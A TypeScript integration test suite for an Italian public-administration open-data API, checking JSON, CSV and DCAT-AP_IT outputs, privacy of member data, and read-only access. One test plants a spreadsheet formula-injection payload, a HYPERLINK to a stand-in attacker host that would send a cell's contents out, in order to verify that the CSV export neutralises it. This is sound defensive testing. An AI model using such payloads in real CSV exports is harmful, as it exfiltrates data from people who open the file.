import { randomUUID } from 'node:crypto';
import {
  PRACTICE_OPEN_DATA_COLUMNS,
  type PracticeOpenDataRecord,
  type PracticeView,
} from '@convergo/contracts';
import Ajv2020 from 'ajv/dist/2020';
import addFormats from 'ajv-formats';
import { parse } from 'csv-parse/sync';
import { DEMO_PRACTICES } from '../apps/api/src/modules/practices/practices.demo-data';
import { newMember, newOrganization, type TestMember } from './support/factories';
import { startTestApp, type TestApp } from './support/test-app';

describe('open data: the published practices, public', () => {
  let t: TestApp;
  let admin: TestMember;
  let official: TestMember;
  let orgId: string;
  let live: PracticeView;
  let proposal: PracticeView;
  let archived: PracticeView;
  const tag = randomUUID().slice(0, 6);

  const as = (m: TestMember) => ({ authorization: `Bearer ${m.accessToken}` });
  const propose = async (fields: Record<string, unknown>): Promise<PracticeView> =>
    (
      await t
        .http()
        .post('/api/v1/practices')
        .set(as(official))
        .send({
          summary: 'Sintesi.',
          themes: ['patrimonio-informativo-pubblico'],
          offeringOrganizationId: orgId,
          ...fields,
        })
        .expect(201)
    ).body as PracticeView;
  const move = (id: string, action: string) =>
    t.http().post(`/api/v1/practices/${id}/${action}`).set(as(admin)).send({}).expect(200);

  beforeAll(async () => {
    // With the demo world: its published practices are open data, its proposal is not.
    t = await startTestApp({ env: { PUBLIC_URL: 'https://convergo.example.it', DEMO_DATA: 'true' } });
    orgId = await newOrganization(t, {
      name: `Provincia Aperta ${tag}`,
      kind: 'provincia',
      region: 'Puglia',
    });
    admin = await newMember(t, {
      role: 'admin',
      displayName: 'Ada Redattrice',
      email: `ada.${tag}@example.it`,
    });
    official = await newMember(t, {
      organizationId: orgId,
      displayName: 'Olga Proponente',
      email: `olga.proponente.${tag}@example.it`,
    });
    live = await propose({
      title: `Open data territoriali, "quoted", con virgola ${tag}`,
      summary: 'Righe\nsu più linee; punto e virgola, virgola.',
      themes: ['patrimonio-informativo-pubblico', 'interoperabilita-cooperazione-applicativa'],
      territory: 'Provincia',
      period: { from: '2011-03-01', to: null },
      reuseConditions: { licence: 'CC BY 4.0', handedOver: 'Dataset e API', effort: 'Un mese' },
      contacts: {
        office: 'Servizio statistica',
        email: 'statistica@provincia.example.it',
        phone: null,
        website: 'https://www.provincia.example.it/opendata',
      },
    });
    await move(live.id, 'publish');
    proposal = await propose({ title: `Proposta non pubblicata ${tag}` });
    archived = await propose({ title: `Pratica archiviata ${tag}` });
    await move(archived.id, 'publish');
    await move(archived.id, 'archive');
    // The editor's note of a practice sent back never leaks either.
    const sentBack = await propose({ title: `Pratica da rivedere ${tag}` });
    await t
      .http()
      .post(`/api/v1/practices/${sentBack.id}/request-changes`)
      .set(as(admin))
      .send({ note: 'Nota riservata della redazione' })
      .expect(200);
  });
  afterAll(async () => {
    await t?.close();
  });

  it('serves JSON without a token: only published practices, valid against the published schema', async () => {
    const res = await t.http().get('/api/v1/open-data/practices.json').expect(200);
    expect(res.headers['content-type']).toContain('application/json');
    expect(res.headers['access-control-allow-origin']).toBe('*');
    const body = res.body as { items: PracticeOpenDataRecord[] };
    const titles = body.items.map((i) => i.titolo);
    expect(titles).toContain(live.title);
    expect(titles).not.toContain(proposal.title);
    expect(titles).not.toContain(archived.title);
    expect(titles.some((x) => x.includes('da rivedere'))).toBe(false);

    const record = body.items.find((i) => i.id === live.id)!;
    expect(Object.keys(record)).toEqual([...PRACTICE_OPEN_DATA_COLUMNS]);
    expect(record).toMatchObject({
      temi: ['interoperabilita-cooperazione-applicativa', 'patrimonio-informativo-pubblico'],
      temi_etichette: ['Interoperabilità e cooperazione applicativa', 'Patrimonio informativo pubblico'],
      amministrazione_offerente: `Provincia Aperta ${tag}`,
      tipo_amministrazione: 'provincia',
      regione: 'Puglia',
      regione_convergenza: true,
      periodo_inizio: '2011-03-01',
      periodo_fine: null,
      licenza: 'CC BY 4.0',
      contatto_ufficio: 'Servizio statistica',
      contatto_email: 'statistica@provincia.example.it',
      url: `https://convergo.example.it/buone-pratiche/${live.id}`,
    });

    const schemaRes = await t.http().get('/api/v1/open-data/practices.schema.json').expect(200);
    expect(schemaRes.headers['content-type']).toContain('application/schema+json');
    const schema = schemaRes.body as Record<string, unknown>;
    expect(schema.$schema).toBe('https://json-schema.org/draft/2020-12/schema');
    const ajv = new Ajv2020({ strict: true, allErrors: true });
    addFormats(ajv);
    const validate = ajv.compile(schema);
    expect(validate(body) ? [] : validate.errors).toEqual([]);
    // The schema is strict: an extra column (a proposer's name, say) would not validate.
    const leaky = { items: [{ ...record, proponente: 'Olga Proponente' }] };
    expect(validate(leaky)).toBe(false);
  });

  it('publishes the demo practices in all six POAT SI themes, and not the demo proposal', async () => {
    const { items } = (await t.http().get('/api/v1/open-data/practices.json').expect(200)).body as {
      items: PracticeOpenDataRecord[];
    };
    const titles = items.map((i) => i.titolo);
    for (const demo of DEMO_PRACTICES) {
      expect([demo.title, titles.includes(demo.title)]).toEqual([demo.title, demo.status === 'published']);
    }
    const themes = new Set(
      items.filter((i) => DEMO_PRACTICES.some((d) => d.title === i.titolo)).flatMap((i) => i.temi),
    );
    for (const code of [
      'servizi-cittadini',
      'servizi-imprese',
      'innovazione-processi-dematerializzazione',
      'sistema-pubblico-connettivita',
      'patrimonio-informativo-pubblico',
      'interoperabilita-cooperazione-applicativa',
    ]) {
      expect([code, themes.has(code)]).toEqual([code, true]);
    }
    const kinds = new Set(
      items
        .filter((i) => DEMO_PRACTICES.some((d) => d.title === i.titolo))
        .map((i) => i.tipo_amministrazione),
    );
    expect([...kinds].sort()).toEqual(['comune', 'regione']);
  });

  it('has no personal data of members in any format', async () => {
    for (const file of ['practices.json', 'practices.csv', 'catalog.jsonld']) {
      const res = await t.http().get(`/api/v1/open-data/${file}`).expect(200);
      for (const secret of [
        'Olga',
        'Proponente',
        'Ada Redattrice',
        official.email,
        admin.email,
        official.id,
        admin.id,
        'Nota riservata',
        'proposed_by',
        'reviewNote',
      ]) {
        expect([file, res.text.includes(secret)]).toEqual([file, false]);
      }
    }
  });

  it('serves CSV with the stable, documented header and one line per published practice', async () => {
    const res = await t.http().get('/api/v1/open-data/practices.csv').expect(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const rows = parse(res.text, { columns: false }) as string[][];
    expect(rows[0]).toEqual([...PRACTICE_OPEN_DATA_COLUMNS]);
    // The header is part of the contract: a renamed or reordered column must fail this line.
    expect(rows[0].join(',')).toBe(
      'id,titolo,sintesi,descrizione,temi,temi_etichette,amministrazione_offerente,amministrazione_offerente_id,' +
        'tipo_amministrazione,regione,regione_convergenza,territorio,periodo_inizio,periodo_fine,risultati,licenza,' +
        'cosa_si_cede,impegno_richiesto,contatto_ufficio,contatto_email,contatto_telefono,contatto_sito,url,' +
        'data_pubblicazione,data_aggiornamento',
    );
    const records = parse(res.text, { columns: true }) as Record<string, string>[];
    const line = records.find((r) => r.id === live.id)!;
    expect(line.titolo).toBe(live.title);
    expect(line.sintesi).toBe('Righe\nsu più linee; punto e virgola, virgola.');
    expect(line.temi).toBe('interoperabilita-cooperazione-applicativa | patrimonio-informativo-pubblico');
    expect(line.regione_convergenza).toBe('true');
    expect(line.periodo_fine).toBe('');
    expect(records.some((r) => r.id === proposal.id || r.id === archived.id)).toBe(false);
    const json = (await t.http().get('/api/v1/open-data/practices.json').expect(200)).body as {
      items: unknown[];
    };
    expect(records).toHaveLength(json.items.length);
  });

  it('keeps cells a spreadsheet would run as formulas as text in the CSV, not in the JSON', async () => {
    const hostile = await propose({
      title: `=HYPERLINK("http://evil.example/?x="&A1,"Apri") ${tag}`,
      summary: '+SOMMA(1;2)',
      territory: '@Comune',
      reuseConditions: { licence: '-1+1', handedOver: 'Dataset', effort: 'Un mese' },
    });
    await move(hostile.id, 'publish');
    const res = await t.http().get('/api/v1/open-data/practices.csv').expect(200);
    const records = parse(res.text, { columns: true }) as Record<string, string>[];
    const line = records.find((r) => r.id === hostile.id)!;
    expect(line.titolo).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Apri") ${tag}`);
    expect([line.sintesi, line.territorio, line.licenza]).toEqual(["'+SOMMA(1;2)", "'@Comune", "'-1+1"]);
    // A harmless cell is untouched.
    expect(line.temi).toBe('patrimonio-informativo-pubblico');
    const json = (await t.http().get('/api/v1/open-data/practices.json').expect(200)).body as {
      items: { id: string; titolo: string }[];
    };
    expect(json.items.find((i) => i.id === hostile.id)!.titolo).toBe(hostile.title);
  });

  it('describes the dataset in DCAT-AP_IT (JSON-LD)', async () => {
    const res = await t.http().get('/api/v1/open-data/catalog.jsonld').expect(200);
    expect(res.headers['content-type']).toContain('application/ld+json');
    const catalog = JSON.parse(res.text) as Record<string, unknown>;
    expect(catalog['@context']).toMatchObject({
      dcat: 'http://www.w3.org/ns/dcat#',
      dct: 'http://purl.org/dc/terms/',
      dcatapit: 'http://dati.gov.it/onto/dcatapit#',
    });
    expect(catalog['@type']).toEqual(['dcat:Catalog', 'dcatapit:Catalog']);
    const [dataset] = catalog['dcat:dataset'] as Record<string, unknown>[];
    expect(dataset['@type']).toEqual(['dcat:Dataset', 'dcatapit:Dataset']);
    expect(dataset['dct:publisher']).toMatchObject({ '@type': ['foaf:Agent', 'dcatapit:Agent'] });
    expect(dataset['dct:identifier']).toBe('convergo:buone-pratiche');
    const distributions = dataset['dcat:distribution'] as Record<string, unknown>[];
    expect(distributions.map((d) => d['dcat:downloadURL'])).toEqual([
      { '@id': 'https://convergo.example.it/api/v1/open-data/practices.json' },
      { '@id': 'https://convergo.example.it/api/v1/open-data/practices.csv' },
    ]);
    for (const d of distributions) {
      expect(d['@type']).toEqual(['dcat:Distribution', 'dcatapit:Distribution']);
      expect(d['dct:license']).toMatchObject({ '@id': 'https://creativecommons.org/licenses/by/4.0/' });
    }
  });

  it('is read-only: writes are not routes, and a token changes nothing', async () => {
    await t.http().post('/api/v1/open-data/practices.json').send({}).expect(404);
    const anonymous = await t.http().get('/api/v1/open-data/practices.json').expect(200);
    const withToken = await t.http().get('/api/v1/open-data/practices.json').set(as(admin)).expect(200);
    expect(withToken.body).toEqual(anonymous.body);
  });
});
